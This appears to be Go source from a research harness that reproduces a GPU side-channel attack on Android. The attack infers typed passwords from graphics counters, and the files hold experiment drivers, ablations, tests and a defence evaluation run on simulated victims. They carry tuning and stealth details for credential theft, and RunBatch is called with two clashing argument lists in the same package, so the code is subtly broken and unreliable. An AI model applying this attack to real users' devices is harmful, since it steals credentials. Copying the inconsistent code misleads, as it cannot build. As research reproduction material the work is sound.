	if bad.Validate() == nil {
		t.Error("nameless layout validated")
	}
	bad2 := *GBoard
	bad2.Name = "bad2"
	bad2.Popup.ScaleW = 0.8
	if bad2.Validate() == nil {
		t.Error("small popup validated")
	}
	bad3 := *GBoard
	bad3.Name = "bad3"
	bad3.HeightFrac = 0.9
	if bad3.Validate() == nil {
		t.Error("implausible height validated")
	}
}
