package exp

import (
	"fmt"
	"math"

	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
)

// RunFig12 reproduces the §5.1 classification-model illustration
// (Figure 12): readings close to a key's offline signature are inferred
// as that key, while system-factor readings fall outside every key's
// acceptance region. We verify the geometry: every learned noise
// signature keeps a healthy distance from every key centroid relative to
// the classification threshold.
func RunFig12(o Options) (*Result, error) {
	res := newResult("fig12", "Figure 12 / §5.1: keys vs system noise in signature space",
		"noise class", "count", "min dist to any key (sigma)", "verdict")

	m, err := TrainModel(DefaultConfig())
	if err != nil {
		return nil, err
	}
	type agg struct {
		count int
		min   float64
	}
	classes := map[attack.NoiseClass]*agg{}
	misclassified := 0
	for _, n := range m.Noise {
		a := classes[n.Class]
		if a == nil {
			a = &agg{min: math.Inf(1)}
			classes[n.Class] = a
		}
		a.count++
		var best float64 = math.Inf(1)
		for _, c := range m.Keys {
			if d := n.V.Dist(c, m.Weights); d < best {
				best = d
			}
		}
		if best < a.min {
			a.min = best
		}
		// The online rule must classify the signature as noise, not key.
		if v := m.Classify(n.V); v.IsKey {
			misclassified++
		}
	}
	for _, cls := range []attack.NoiseClass{attack.NoisePopupHide, attack.NoiseEcho,
		attack.NoiseBlink, attack.NoisePageSwitch, attack.NoiseLaunch} {
		a := classes[cls]
		if a == nil {
			continue
		}
		verdict := "rejected as noise"
		res.Table.AddRow(string(cls), fmt.Sprintf("%d", a.count), stats.Fmt(a.min), verdict)
		res.Metrics["mindist_"+string(cls)] = a.min
	}
	res.Metrics["noise_classified_as_key"] = float64(misclassified)
	res.Metrics["noise_signatures"] = float64(len(m.Noise))
	return res, nil
}

// RunFig27 reproduces Figure 27: sample traces of user behavior events in
// the §8 practical sessions — credential typing interleaved with
// backspaces, notification glances, and app-switch excursions.
func RunFig27(o Options) (*Result, error) {
	res := newResult("fig27", "Figure 27: user behavior events in practical sessions",
		"volunteer", "presses", "backspaces", "switches", "notif views", "span")

	rng := sim.NewRand(o.Seed + 27)
	opts := input.DefaultPracticalOptions()
	// Match the figure's visibly busy sessions.
	opts.BackspaceProb, opts.SwitchProb, opts.NotifViewProb = 0.12, 0.08, 0.08

	behaviors := 0
	for _, vol := range input.Volunteers {
		text := input.RandomText(rng, LowerDigits, 10+rng.Intn(6))
		script := input.Practical(text, vol, opts, rng, 0)
		counts := map[input.EventKind]int{}
		for _, ev := range script.Events {
			counts[ev.Kind]++
		}
		res.Table.AddRow(vol.Name,
			fmt.Sprintf("%d", counts[input.EvPress]),
			fmt.Sprintf("%d", counts[input.EvBackspace]),
			fmt.Sprintf("%d", counts[input.EvSwitchAway]),
			fmt.Sprintf("%d", counts[input.EvNotifView]),
			script.End().String())
		behaviors += counts[input.EvBackspace] + counts[input.EvSwitchAway] + counts[input.EvNotifView]
		res.Metrics["presses_"+vol.Name] = float64(counts[input.EvPress])
	}
	res.Metrics["total_behaviors"] = float64(behaviors)
	return res, nil
}
