package exp

import (
	"strings"
	"testing"

	"gpuleak/internal/attack"
	"gpuleak/internal/input"
)

// quick runs an experiment at CI scale and logs its table.
func quick(t *testing.T, id string) *Result {
	t.Helper()
	e, ok := ByID(id)
	if !ok {
		t.Fatalf("unknown experiment %q", id)
	}
	r, err := e.Run(Options{Quick: true, Seed: 20260705})
	if err != nil {
		t.Fatalf("%s: %v", id, err)
	}
	t.Logf("\n%s", r.Table.String())
	return r
}

func TestRegistryComplete(t *testing.T) {
	want := []string{"fig5", "fig6", "fig11", "fig13", "fig14", "fig16", "fig17",
		"fig18", "table2", "fig19", "fig20", "fig21", "fig22", "fig23", "fig24",
		"fig25", "fig26", "fig28", "fig29", "modelsize"}
	for _, id := range want {
		if _, ok := ByID(id); !ok {
			t.Errorf("experiment %s missing from registry", id)
		}
	}
	if len(All) < 25 {
		t.Errorf("registry has %d experiments", len(All))
	}
	if _, ok := ByID("nope"); ok {
		t.Error("ByID returned unknown experiment")
	}
}

func TestFig5Shape(t *testing.T) {
	r := quick(t, "fig5")
	if r.Metric("idle_changes") != 0 {
		t.Error("counters changed while idle")
	}
	if r.Metric("w_vs_n_differ") != 1 {
		t.Error("'w' and 'n' deltas identical")
	}
	if r.Metric("repeatable_w") != 1 || r.Metric("repeatable_n") != 1 {
		t.Error("per-key deltas not repeatable")
	}
}

func TestFig6Shape(t *testing.T) {
	r := quick(t, "fig6")
	if r.Metric("distinct_letter_clusters") < 24 {
		t.Errorf("letter clusters collapse: %v distinct", r.Metric("distinct_letter_clusters"))
	}
	if r.Metric("min_2d_separation") <= 0 {
		t.Error("2-D projection does not separate keys")
	}
}

func TestFig11Shape(t *testing.T) {
	r := quick(t, "fig11")
	// Paper: 633/3485 = 18.2% duplication, 316/3485 = 9.1% split; overall
	// ~28% of presses affected. Accept the same regime.
	if d := r.Metric("dup_rate"); d < 0.08 || d > 0.30 {
		t.Errorf("duplication rate %v outside paper regime (~0.18)", d)
	}
	if s := r.Metric("split_rate"); s < 0.02 || s > 0.30 {
		t.Errorf("split rate %v outside paper regime (~0.09)", s)
	}
}

func TestFig13Shape(t *testing.T) {
	r := quick(t, "fig13")
	if r.Metric("switches_detected") < 2 {
		t.Error("app switch bursts not detected")
	}
	if r.Metric("burst_max_gap_ms") >= 50 {
		t.Errorf("burst gap %vms not under 50ms", r.Metric("burst_max_gap_ms"))
	}
	if r.Metric("edit_distance") > 1 {
		t.Errorf("credential not recovered across app switch (edit distance %v)", r.Metric("edit_distance"))
	}
	if r.Metric("foreign_keys") > 0 {
		t.Error("foreign-app activity leaked into the inferred credential")
	}
}

func TestFig14Shape(t *testing.T) {
	r := quick(t, "fig14")
	if r.Metric("correct_steps") != r.Metric("want_steps") {
		t.Errorf("echo steps: %v/%v correct", r.Metric("correct_steps"), r.Metric("want_steps"))
	}
	if r.Metric("blinks") > 0 && r.Metric("blinks_on_grid") < r.Metric("blinks") {
		t.Error("cursor blinks off the 0.5s grid")
	}
}

func TestFig16Shape(t *testing.T) {
	r := quick(t, "fig16")
	if r.Metric("interval_spread_ratio") < 1.5 {
		t.Error("volunteers not heterogeneous")
	}
}

func TestFig17Shape(t *testing.T) {
	r := quick(t, "fig17")
	// Paper: avg 81.3% text, 98.3% char. Same regime (high majority-exact
	// recovery, >=94% per key at quick scale).
	if a := r.Metric("avg_text_acc"); a < 0.5 {
		t.Errorf("avg text accuracy %v too low", a)
	}
	if c := r.Metric("char_acc"); c < 0.93 {
		t.Errorf("char accuracy %v too low", c)
	}
	if e := r.Metric("mean_errors"); e > 1.3 {
		t.Errorf("mean errors %v above the paper's bound", e)
	}
}

func TestTable2Shape(t *testing.T) {
	r := quick(t, "table2")
	// Prior work stays an order of magnitude below this paper's accuracy.
	if m := r.Metric("max_accuracy"); m > 0.30 {
		t.Errorf("baseline max accuracy %v too high for Table 2", m)
	}
	if m := r.Metric("max_accuracy"); m < r.Metric("chance") {
		t.Errorf("baselines below chance: %v", m)
	}
}

func TestFig20Shape(t *testing.T) {
	r := quick(t, "fig20")
	if s := r.Metric("char_acc_spread"); s > 0.10 {
		t.Errorf("keyboard accuracy spread %v too wide (paper <5%%)", s)
	}
}

func TestFig26Shape(t *testing.T) {
	r := quick(t, "fig26")
	if m := r.Metric("max_extra_pct_2h"); m <= 0 || m > 6 {
		t.Errorf("2h battery cost %v%% outside the paper's regime (<=~4%%)", m)
	}
}

func TestModelSizeShape(t *testing.T) {
	r := quick(t, "modelsize")
	if b := r.Metric("model_bytes"); b < 1000 || b > 100_000 {
		t.Errorf("model size %v bytes out of regime", b)
	}
	if mb := r.Metric("bundle_mb"); mb > 120 {
		t.Errorf("3000-model bundle %vMB exceeds store limits", mb)
	}
}

func TestFig25Shape(t *testing.T) {
	r := quick(t, "fig25")
	if f := r.Metric("frac_under_0.1ms"); f < 0.90 {
		t.Errorf("only %v of inferences under 0.1ms (paper >95%%)", f)
	}
}

func TestTablesRender(t *testing.T) {
	r := quick(t, "fig16")
	s := r.Table.String()
	if !strings.Contains(s, "volunteer-1") {
		t.Error("table missing rows")
	}
}

func TestFig11Census(t *testing.T) {
	r := quick(t, "fig11")
	if r.Metric("presses") < 300 {
		t.Errorf("census too small: %v presses", r.Metric("presses"))
	}
	if r.Metric("affected_frac") <= 0 {
		t.Error("no presses affected by system factors")
	}
}

func TestFig18Shape(t *testing.T) {
	r := quick(t, "fig18")
	if r.Metric("overall") < 0.90 {
		t.Errorf("overall per-key accuracy %v too low", r.Metric("overall"))
	}
	// Errors concentrate on a few keys: the worst key is clearly below
	// the overall accuracy.
	if r.Metric("worst_acc") >= r.Metric("overall") {
		t.Error("no error concentration on hard keys")
	}
}

func TestFig19Shape(t *testing.T) {
	r := quick(t, "fig19")
	if r.Metric("min_text_acc") < 0.30 {
		t.Errorf("weakest app text accuracy %v out of regime", r.Metric("min_text_acc"))
	}
	for _, app := range []string{"Chase", "chase.com"} {
		if r.Metric("char_"+app) < 0.90 {
			t.Errorf("char accuracy on %s = %v", app, r.Metric("char_"+app))
		}
	}
}

func TestFig21Shape(t *testing.T) {
	r := quick(t, "fig21")
	// Per-key accuracy is flat across speeds (paper) and errors stay
	// under the paper's 1.3 bound.
	if s := r.Metric("char_acc_spread"); s > 0.06 {
		t.Errorf("char accuracy varies with speed: spread %v", s)
	}
	for _, sp := range []string{"slow", "medium", "fast"} {
		if e := r.Metric("errors_" + sp); e > 1.3 {
			t.Errorf("%s speed mean errors %v above paper bound", sp, e)
		}
	}
}

func TestFig22Shape(t *testing.T) {
	r := quick(t, "fig22")
	// Low load is negligible; 75% load degrades markedly (paper Fig 22).
	if drop := r.Metric("gpu_0_text") - r.Metric("gpu_25_text"); drop > 0.25 {
		t.Errorf("GPU 25%% already destroys accuracy (drop %v)", drop)
	}
	if r.Metric("gpu_75_text") >= r.Metric("gpu_0_text") {
		t.Error("GPU 75% load has no effect")
	}
	if r.Metric("cpu_75_char") < 0.85 {
		t.Errorf("CPU load too destructive: char %v", r.Metric("cpu_75_char"))
	}
}

func TestFig23Shape(t *testing.T) {
	r := quick(t, "fig23")
	// The 120 Hz panel needs the 4 ms interval: 12 ms collapses.
	if r.Metric("120hz_12ms_text") >= r.Metric("120hz_4ms_text") {
		t.Error("120Hz/12ms not worse than 120Hz/4ms")
	}
	if r.Metric("60hz_8ms_char") < 0.90 {
		t.Errorf("60Hz/8ms char accuracy %v", r.Metric("60hz_8ms_char"))
	}
}

func TestFig24Shape(t *testing.T) {
	r := quick(t, "fig24")
	if r.Metric("min_text_acc") < 0.25 {
		t.Errorf("adaptability floor %v too low", r.Metric("min_text_acc"))
	}
}

func TestFig28Shape(t *testing.T) {
	r := quick(t, "fig28")
	if r.Metric("avg_char_acc") < 0.85 {
		t.Errorf("practical char accuracy %v", r.Metric("avg_char_acc"))
	}
	if r.Metric("avg_trace_acc") <= 0.2 {
		t.Errorf("practical trace accuracy %v", r.Metric("avg_trace_acc"))
	}
}

func TestFig29Shape(t *testing.T) {
	r := quick(t, "fig29")
	if r.Metric("pnc_text") >= r.Metric("baseline_text") {
		t.Error("PNC animation did not reduce accuracy")
	}
	if r.Metric("pnc_char") < 0.5 {
		t.Errorf("PNC char accuracy %v collapsed entirely", r.Metric("pnc_char"))
	}
}

func TestAblationShapes(t *testing.T) {
	dedup := quick(t, "ablation-dedup")
	if dedup.Metric("text_75ms (paper)") <= dedup.Metric("text_disabled") {
		t.Error("dedup window does not help")
	}
	if dedup.Metric("text_75ms (paper)") <= dedup.Metric("text_150ms") {
		t.Error("oversized dedup window not harmful")
	}

	split := quick(t, "ablation-split")
	if split.Metric("text_on") <= split.Metric("text_off") {
		t.Error("split combining does not help")
	}
	if split.Metric("splits_on") == 0 {
		t.Error("no splits observed")
	}

	corr := quick(t, "ablation-corrections")
	// At quick scale the two arms can tie; correction tracking must never
	// hurt, and at full scale it strictly helps (see EXPERIMENTS.md).
	if corr.Metric("trace_on") < corr.Metric("trace_off") {
		t.Error("correction tracking hurts")
	}

	counters := quick(t, "ablation-counters")
	if counters.Metric("char_all 11") <= counters.Metric("char_VPC only") {
		t.Error("full counter set no better than VPC alone")
	}
}

func TestAblationGreedyVsOffline(t *testing.T) {
	r := quick(t, "ablation-greedy")
	if r.Metric("char_offline")+1e-9 < r.Metric("char_online") {
		t.Errorf("whole-trace segmentation lost accuracy: %v vs %v",
			r.Metric("char_offline"), r.Metric("char_online"))
	}
}

func TestSec9DefenseMatrix(t *testing.T) {
	r := quick(t, "sec9")
	if r.Metric("blocked_SELinux ioctl whitelist") != 1 {
		t.Error("SELinux whitelist did not block the attack")
	}
	if r.Metric("text_popups disabled") > 0 {
		t.Error("popup disabling did not stop credential recovery")
	}
	// §9.1's caveat: the input length still leaks without popups.
	if r.Metric("length_popups disabled") <= 0.2 {
		t.Errorf("length leak gone with popups disabled: %v", r.Metric("length_popups disabled"))
	}
	if r.Metric("text_autofill") > 0 {
		t.Error("autofill did not stop credential recovery")
	}
	// Obfuscation strength ordering.
	if r.Metric("obf_0.0005_text") <= r.Metric("obf_0.0100_text") {
		t.Error("obfuscation amplitude ordering violated")
	}
	// §9.1: the attack's ioctl rate is far below normal driver traffic.
	if r.Metric("attack_ioctl_rate") >= r.Metric("normal_ioctl_rate") {
		t.Error("attack ioctl rate not below normal driver rate")
	}
}

func TestExperimentsDeterministic(t *testing.T) {
	// Identical options must reproduce identical metrics bit-for-bit.
	for _, id := range []string{"fig5", "fig11", "table2"} {
		e, _ := ByID(id)
		a, err := e.Run(Options{Quick: true, Seed: 99})
		if err != nil {
			t.Fatal(err)
		}
		b, err := e.Run(Options{Quick: true, Seed: 99})
		if err != nil {
			t.Fatal(err)
		}
		for k, v := range a.Metrics {
			if b.Metrics[k] != v {
				t.Errorf("%s: metric %s differs across identical runs: %v vs %v", id, k, v, b.Metrics[k])
			}
		}
	}
}

func TestGuessingShape(t *testing.T) {
	r := quick(t, "guessing")
	if r.Metric("acc@1") <= 0 {
		t.Fatal("zero exact recovery")
	}
	if r.Metric("acc@10") < r.Metric("acc@1") {
		t.Error("guessing reduced accuracy")
	}
	if r.Metric("acc@50") < r.Metric("acc@10") {
		t.Error("accuracy@k not monotone")
	}
}

func TestTransferShape(t *testing.T) {
	r := quick(t, "transfer")
	if r.Metric("diag_mean") < 0.9 {
		t.Errorf("on-device accuracy %v too low", r.Metric("diag_mean"))
	}
	if r.Metric("offdiag_mean") >= r.Metric("diag_mean")-0.2 {
		t.Errorf("cross-device transfer did not collapse: %v vs %v",
			r.Metric("offdiag_mean"), r.Metric("diag_mean"))
	}
}

func TestFig12Shape(t *testing.T) {
	r := quick(t, "fig12")
	if r.Metric("noise_classified_as_key") != 0 {
		t.Errorf("%v learned noise signatures classify as keys", r.Metric("noise_classified_as_key"))
	}
	if r.Metric("noise_signatures") < 10 {
		t.Error("too few noise signatures learned")
	}
}

func TestFig27Shape(t *testing.T) {
	r := quick(t, "fig27")
	if r.Metric("total_behaviors") < 5 {
		t.Errorf("practical sessions too clean: %v behaviors", r.Metric("total_behaviors"))
	}
}

func TestRunBatchParallelDeterminism(t *testing.T) {
	// The worker pool assigns sessions by index; results must be
	// identical across runs regardless of scheduling.
	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	run := func() *BatchResult {
		b, err := RunBatch(Options{}, cfg, m, LowerDigits, 8, 12, input.Volunteers[0],
			input.SpeedAny, attack.DefaultInterval, attack.OnlineOptions{}, 777)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	a, b := run(), run()
	for i := range a.Inferred {
		if a.Inferred[i] != b.Inferred[i] || a.Truth[i] != b.Truth[i] {
			t.Fatalf("batch slot %d differs across runs", i)
		}
	}
	if a.Stats != b.Stats {
		t.Fatalf("aggregate stats differ: %+v vs %+v", a.Stats, b.Stats)
	}
}

// TestCalibrationRobustAcrossSeeds guards the headline accuracy against
// being a single-seed fluke: three unrelated seeds must all land in the
// paper's regime.
func TestCalibrationRobustAcrossSeeds(t *testing.T) {
	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, seed := range []int64{101, 987654, 31337} {
		b, err := RunBatch(Options{}, cfg, m, LowerDigits, 10, 20, input.Volunteers[int(seed)%5],
			input.SpeedAny, attack.DefaultInterval, attack.OnlineOptions{}, seed)
		if err != nil {
			t.Fatal(err)
		}
		if ca := b.CharAccuracy(); ca < 0.93 {
			t.Errorf("seed %d: char accuracy %v below regime", seed, ca)
		}
		if ta := b.TextAccuracy(); ta < 0.5 {
			t.Errorf("seed %d: text accuracy %v below regime", seed, ta)
		}
	}
}
