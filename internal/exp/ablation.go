package exp

import (
	"fmt"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunAblationDedup sweeps the §5.1 duplication window Ti. The paper picks
// 75 ms (the shortest plausible human inter-key interval); disabling the
// window lets popup-animation duplications double characters, while an
// oversized window swallows genuine fast presses.
func RunAblationDedup(o Options) (*Result, error) {
	res := newResult("ablation-dedup", "Ablation: duplication window Ti",
		"Ti", "text acc", "char acc")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	per := o.Trials(120)
	type cfgT struct {
		label string
		opts  attack.OnlineOptions
	}
	cases := []cfgT{
		{"disabled", attack.OnlineOptions{DisableDedup: true}},
		{"25ms", attack.OnlineOptions{DedupWindow: 25 * sim.Millisecond}},
		{"75ms (paper)", attack.OnlineOptions{}},
		{"150ms", attack.OnlineOptions{DedupWindow: 150 * sim.Millisecond}},
	}
	for ci, c := range cases {
		// Fast typists stress the window the most.
		b, err := RunBatch(o, cfg, m, LowerDigits, 10, per,
			input.Volunteers[3], input.SpeedFast, attack.DefaultInterval,
			c.opts, o.Seed+int64(ci)*81799)
		if err != nil {
			return nil, err
		}
		res.Table.AddRow(c.label, stats.Pct(b.TextAccuracy()), stats.Pct(b.CharAccuracy()))
		res.Metrics["text_"+c.label] = b.TextAccuracy()
	}
	return res, nil
}

// RunAblationSplit toggles Algorithm 1's split combining.
func RunAblationSplit(o Options) (*Result, error) {
	res := newResult("ablation-split", "Ablation: split combining (Algorithm 1)",
		"combining", "text acc", "char acc", "splits recovered")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	per := o.Trials(120)
	for ci, disabled := range []bool{false, true} {
		b, err := RunBatch(o, cfg, m, LowerDigits, 10, per,
			input.Volunteers[0], input.SpeedAny, attack.DefaultInterval,
			attack.OnlineOptions{DisableSplitCombine: disabled}, o.Seed+int64(ci)*91493)
		if err != nil {
			return nil, err
		}
		label := "on"
		if disabled {
			label = "off"
		}
		res.Table.AddRow(label, stats.Pct(b.TextAccuracy()), stats.Pct(b.CharAccuracy()),
			fmt.Sprintf("%d", b.Stats.Splits))
		res.Metrics["text_"+label] = b.TextAccuracy()
		res.Metrics["splits_"+label] = float64(b.Stats.Splits)
	}
	return res, nil
}

// RunAblationThreshold sweeps the classification threshold Cth around the
// offline-derived value. Small thresholds reject perturbed key presses;
// large ones admit noise as keys.
func RunAblationThreshold(o Options) (*Result, error) {
	res := newResult("ablation-threshold", "Ablation: classification threshold Cth",
		"Cth scale", "text acc", "char acc")

	cfg := DefaultConfig()
	base, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	per := o.Trials(120)
	for si, scale := range []float64{0.1, 0.5, 1.0, 3.0, 10.0} {
		m := base.Clone()
		m.Cth = base.Cth * scale
		b, err := RunBatch(o, cfg, m, LowerDigits, 10, per,
			input.Volunteers[1], input.SpeedAny, attack.DefaultInterval,
			attack.OnlineOptions{}, o.Seed+int64(si)*10007)
		if err != nil {
			return nil, err
		}
		label := fmt.Sprintf("%.1fx", scale)
		res.Table.AddRow(label, stats.Pct(b.TextAccuracy()), stats.Pct(b.CharAccuracy()))
		res.Metrics["text_"+label] = b.TextAccuracy()
	}
	return res, nil
}

// RunAblationCounterSet restricts the feature space to a single counter
// group (LRZ, RAS, VPC) versus all 11 counters, quantifying how much each
// group contributes (the paper jointly examines all of Table 1).
func RunAblationCounterSet(o Options) (*Result, error) {
	res := newResult("ablation-counters", "Ablation: counter subsets",
		"counters", "text acc", "char acc")

	cfg := DefaultConfig()
	base, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	per := o.Trials(120)
	masks := []struct {
		label string
		dims  []int
	}{
		{"LRZ only", []int{0, 1, 2, 3}},
		{"RAS only", []int{4, 5, 6, 7}},
		{"VPC only", []int{8, 9, 10}},
		{"all 11", []int{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10}},
	}
	for mi, msk := range masks {
		m := base.Clone()
		w := base.Weights
		keep := map[int]bool{}
		for _, d := range msk.dims {
			keep[d] = true
		}
		for i := range w {
			if !keep[i] {
				// A vanishing (but non-zero) weight removes the dimension
				// from distance computation without tripping the
				// zero-means-one fallback.
				w[i] = 1e-12
			}
		}
		m.Weights = w
		b, err := RunBatch(o, cfg, m, LowerDigits, 10, per,
			input.Volunteers[2], input.SpeedAny, attack.DefaultInterval,
			attack.OnlineOptions{}, o.Seed+int64(mi)*11003)
		if err != nil {
			return nil, err
		}
		res.Table.AddRow(msk.label, stats.Pct(b.TextAccuracy()), stats.Pct(b.CharAccuracy()))
		res.Metrics["char_"+msk.label] = b.CharAccuracy()
	}
	return res, nil
}

// RunAblationCorrections toggles §5.3 correction tracking on practical
// sessions with backspaces.
func RunAblationCorrections(o Options) (*Result, error) {
	res := newResult("ablation-corrections", "Ablation: §5.3 correction tracking",
		"corrections", "trace acc", "char acc")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	per := o.Trials(60)
	opts := input.DefaultPracticalOptions()
	opts.SwitchProb = 0 // isolate corrections
	opts.NotifViewProb = 0
	opts.BackspaceProb = 0.15

	for ci, disabled := range []bool{false, true} {
		inferred := make([]string, 0, per)
		truths := make([]string, 0, per)
		for si := 0; si < per; si++ {
			// Paired comparison: both arms replay identical sessions.
			seed := o.Seed + int64(si)*517
			_ = ci
			rng := sim.NewRand(seed)
			text := input.RandomText(rng, LowerDigits, 10)
			c := cfg
			c.Seed = seed
			inf, truth, err := eavesdropScript(c, m,
				input.Practical(text, input.Volunteers[si%5], opts, rng, 700*sim.Millisecond),
				attack.OnlineOptions{DisableCorrections: disabled})
			if err != nil {
				return nil, err
			}
			inferred = append(inferred, inf)
			truths = append(truths, truth)
		}
		label := "on"
		if disabled {
			label = "off"
		}
		ta := stats.TextAccuracy(inferred, truths)
		res.Table.AddRow(label, stats.Pct(ta), stats.Pct(stats.CharAccuracy(inferred, truths)))
		res.Metrics["trace_"+label] = ta
	}
	return res, nil
}

func eavesdropScript(cfg victim.Config, m *attack.Model, script input.Script, opts attack.OnlineOptions) (string, string, error) {
	sess := victim.New(cfg)
	sess.Run(script)
	f, err := sess.Open()
	if err != nil {
		return "", "", err
	}
	atk := &attack.Attack{Models: []*attack.Model{m}, Interval: attack.DefaultInterval, Options: opts}
	r, err := atk.Eavesdrop(f, 0, sess.End)
	if err != nil {
		return "", "", err
	}
	return r.Text, sess.TypedText(), nil
}

// RunAblationGreedyVsOffline quantifies the §5.1 accuracy/timeliness
// tradeoff: the streaming (greedy) engine infers keys in real time but
// can pair fragments wrongly; whole-trace segmentation waits until the
// input finishes and reconsiders every grouping.
func RunAblationGreedyVsOffline(o Options) (*Result, error) {
	res := newResult("ablation-greedy", "Ablation: greedy (online) vs whole-trace (offline) segmentation",
		"mode", "text acc", "char acc", "timeliness")

	cfg := DefaultConfig()
	// Stress splits: a slower GPU fragments more frames.
	cfg.Device = androidLGV30()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	per := o.Trials(150)

	var onI, onT, offI, offT []string
	rng := sim.NewRand(o.Seed + 777)
	for si := 0; si < per; si++ {
		text := input.RandomText(rng, LowerDigits, 10)
		seed := o.Seed + int64(si)*919
		c := cfg
		c.Seed = seed
		sess := victim.New(c)
		sess.Run(input.Typing(text, input.Volunteers[si%5], input.SpeedAny,
			sim.NewRand(seed^0x77), 700*sim.Millisecond))
		f, err := sess.Open()
		if err != nil {
			return nil, err
		}
		atk := attack.New(m)
		smp, err := attack.NewSampler(f, attack.DefaultInterval)
		if err != nil {
			return nil, err
		}
		tr, err := smp.Collect(0, sess.End)
		if err != nil {
			return nil, err
		}
		online, err := atk.EavesdropTrace(tr)
		if err != nil {
			return nil, err
		}
		offline, err := atk.EavesdropTraceOffline(tr)
		if err != nil {
			return nil, err
		}
		truth := sess.TypedText()
		onI, onT = append(onI, online.Text), append(onT, truth)
		offI, offT = append(offI, offline.Text), append(offT, truth)
	}
	res.Table.AddRow("greedy (online)", stats.Pct(stats.TextAccuracy(onI, onT)),
		stats.Pct(stats.CharAccuracy(onI, onT)), "real-time")
	res.Table.AddRow("whole-trace (offline)", stats.Pct(stats.TextAccuracy(offI, offT)),
		stats.Pct(stats.CharAccuracy(offI, offT)), "after input ends")
	res.Metrics["text_online"] = stats.TextAccuracy(onI, onT)
	res.Metrics["text_offline"] = stats.TextAccuracy(offI, offT)
	res.Metrics["char_online"] = stats.CharAccuracy(onI, onT)
	res.Metrics["char_offline"] = stats.CharAccuracy(offI, offT)
	return res, nil
}

// androidLGV30 avoids an import cycle nuisance in this file's header.
func androidLGV30() android.DeviceModel { return android.LGV30 }
