package exp

import (
	"fmt"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/geom"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunFig22 reproduces Figure 22: the impact of concurrent CPU and GPU
// workloads. Paper: negligible reduction for CPU<50% or GPU<25%; drops
// toward ~60% when loads reach 75%.
func RunFig22(o Options) (*Result, error) {
	res := newResult("fig22", "Figure 22: impact of concurrent CPU/GPU workloads",
		"load", "level", "text acc", "char acc")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	per := o.Trials(150)
	levels := []float64{0, 0.25, 0.50, 0.75}

	run := func(kind string, set func(*victim.Config, float64)) error {
		for li, lv := range levels {
			c := cfg
			set(&c, lv)
			b, err := RunBatch(c, m, LowerDigits, 10, per,
				input.Volunteers[li%5], input.SpeedAny, attack.DefaultInterval,
				attack.OnlineOptions{}, o.Seed+int64(li)*41231+hash32(kind))
			if err != nil {
				return err
			}
			ta, ca := b.TextAccuracy(), b.CharAccuracy()
			res.Table.AddRow(kind, fmt.Sprintf("%.0f%%", lv*100), stats.Pct(ta), stats.Pct(ca))
			res.Metrics[fmt.Sprintf("%s_%.0f_text", kind, lv*100)] = ta
			res.Metrics[fmt.Sprintf("%s_%.0f_char", kind, lv*100)] = ca
		}
		return nil
	}
	if err := run("cpu", func(c *victim.Config, lv float64) { c.CPULoad = lv }); err != nil {
		return nil, err
	}
	if err := run("gpu", func(c *victim.Config, lv float64) { c.GPULoad = lv }); err != nil {
		return nil, err
	}
	return res, nil
}

func hash32(s string) int64 {
	var h int64 = 1469598103
	for _, c := range s {
		h = h*1099511 + int64(c)
	}
	return h
}

// RunFig23 reproduces Figure 23: the impact of the counter polling
// interval at 60 Hz and 120 Hz refresh rates. Paper: per-key accuracy
// stays >95% but text accuracy drops ~20% at a 12 ms interval; 120 Hz
// needs a 4 ms interval.
func RunFig23(o Options) (*Result, error) {
	res := newResult("fig23", "Figure 23: impact of the PC reading interval",
		"refresh", "interval", "text acc", "char acc")

	per := o.Trials(150)
	for _, hz := range []int{60, 120} {
		cfg := DefaultConfig()
		cfg.RefreshHz = hz
		m, err := TrainModel(cfg)
		if err != nil {
			return nil, err
		}
		for ii, interval := range []sim.Time{4 * sim.Millisecond, 8 * sim.Millisecond, 12 * sim.Millisecond} {
			b, err := RunBatch(cfg, m, LowerDigits, 10, per,
				input.Volunteers[ii%5], input.SpeedAny, interval,
				attack.OnlineOptions{}, o.Seed+int64(hz)*7+int64(ii)*52561)
			if err != nil {
				return nil, err
			}
			ta, ca := b.TextAccuracy(), b.CharAccuracy()
			res.Table.AddRow(fmt.Sprintf("%dHz", hz), interval.String(), stats.Pct(ta), stats.Pct(ca))
			res.Metrics[fmt.Sprintf("%dhz_%dms_text", hz, int(interval/sim.Millisecond))] = ta
			res.Metrics[fmt.Sprintf("%dhz_%dms_char", hz, int(interval/sim.Millisecond))] = ca
		}
	}
	return res, nil
}

// RunFig24 reproduces Figure 24: adaptability across GPU models (a),
// screen resolutions (b), phone models sharing a GPU (c) and Android OS
// versions (d). With per-configuration classifiers, accuracy is similar
// everywhere.
func RunFig24(o Options) (*Result, error) {
	res := newResult("fig24", "Figure 24: adaptability of the attack",
		"sweep", "configuration", "text acc", "char acc")

	per := o.Trials(100)
	seed := o.Seed
	var texts []float64

	eval := func(sweep, label string, cfg victim.Config) error {
		m, err := TrainModel(cfg)
		if err != nil {
			return err
		}
		seed += 60013
		// §7.4's recommendation: poll at no more than half the refresh
		// interval — 4 ms on 120 Hz panels.
		interval := attack.DefaultInterval
		hz := cfg.RefreshHz
		if hz == 0 {
			hz = cfg.Device.DefaultRefreshHz()
		}
		if hz > 60 {
			interval = 4 * sim.Millisecond
		}
		b, err := RunBatch(cfg, m, LowerDigits, 10, per,
			input.Volunteers[int(seed)%5], input.SpeedAny, interval,
